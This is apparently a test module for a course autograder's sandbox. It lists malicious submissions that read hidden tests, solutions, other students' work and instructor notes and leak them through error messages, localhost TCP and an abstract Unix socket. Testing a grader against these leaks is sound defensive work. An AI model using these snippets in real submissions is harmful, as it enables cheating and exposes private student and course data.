"""Submissions that carry out data that no student should see."""

from __future__ import annotations

import textwrap
from functools import partial

from tests.comparison.attack import Idea
from tests.comparison.homework import reference
from tests.comparison.ideas.common import LIMIT, limit

KIND = "leaks"
leak = partial(limit, KIND)

TOLD = """
def limit_ntk(X, n):
    print(found)
    raise ValueError(found)
"""


def told(code: str) -> str:
    """Return the code, which sets `found`, and an answer that raises `found` as an error."""
    return textwrap.dedent(code) + TOLD


IDEAS = (
    Idea(
        "inputs-printed",
        KIND,
        "A right answer prints all its inputs, to the last digit.",
        {
            "kernel": reference("kernel")
            + textwrap.dedent("""
            answer = empirical_ntk
            def empirical_ntk(v, W, X, n):
                print(v.tolist(), W.tolist(), X.tolist())
                return answer(v, W, X, n)
            """)
        },
    ),
    Idea(
        "inputs-told-by-a-later-check",
        KIND,
        "A right answer stores its inputs; a later visible check fails and shows these inputs.",
        {
            "gradients": reference("gradients")
            + textwrap.dedent("""
            answer, seen = gradient_W, []
            def gradient_W(v, W, x, n):
                seen.append((np.asarray(v).tolist(), np.asarray(W).tolist()))
                return answer(v, W, x, n)
            """),
            "limit": """
            def limit_ntk(X, n):
                raise ValueError(f"I have seen {seen}")
            """,
        },
        LIMIT,
    ),
    leak(
        "hidden-tests-told-by-a-visible-check",
        "A visible check fails with the text of the file of hidden tests.",
        told("""
        from pathlib import Path
        try:
            found = Path("@hidden@").read_text()
        except OSError as error:
            found = type(error).__name__
        """),
    ),
    leak(
        "solutions-told-by-a-visible-check",
        "A visible check fails with the text of the solution as its message.",
        told("""
        from pathlib import Path
        try:
            found = Path("@solution@").read_text().replace("\\\\n", "\\n").replace('\\\\"', '"')
        except OSError as error:
            found = type(error).__name__
        """),
    ),
    leak(
        "another-submission-told",
        "A visible check fails with the text of another student's submission.",
        told("""
        import io, zipfile
        from pathlib import Path
        try:
            data = Path("@victim@").read_bytes()
            if data[:2] == b"PK":
                archive = zipfile.ZipFile(io.BytesIO(data))
                data = archive.read(archive.namelist()[0])
            found = data.decode()
        except OSError as error:
            found = type(error).__name__
        """),
    ),
    leak(
        "a-note-of-the-instructors",
        "A visible check fails with the text of an instructor's note in the course folder.",
        told("""
        from pathlib import Path
        try:
            found = Path("@course@/notes.txt").read_text()
        except OSError as error:
            found = type(error).__name__
        """),
    ),
    Idea(
        "inputs-sent-over-tcp",
        KIND,
        "A right answer sends its inputs over TCP to a program that listens on this machine.",
        {
            "kernel": reference("kernel")
            + textwrap.dedent("""
            import socket
            answer = empirical_ntk
            def empirical_ntk(v, W, X, n):
                try:
                    with socket.create_connection(("127.0.0.1", @tcp@), timeout=1) as wire:
                        wire.sendall(repr((v.tolist(), W.tolist(), X.tolist())).encode())
                except OSError:
                    pass
                return answer(v, W, X, n)
            """)
        },
    ),
    Idea(
        "tests-sent-over-a-socket",
        KIND,
        "The student's code sends the file of hidden tests through an abstract socket.",
        {
            "start": """
            import socket
            from pathlib import Path
            try:
                text = Path("@hidden@").read_text().replace("\\\\n", "\\n")
                wire = socket.socket(socket.AF_UNIX)
                wire.connect("\\0@abstract@")
                wire.sendall(text.encode())
                wire.close()
            except OSError:
                pass
            """
        },
    ),
)
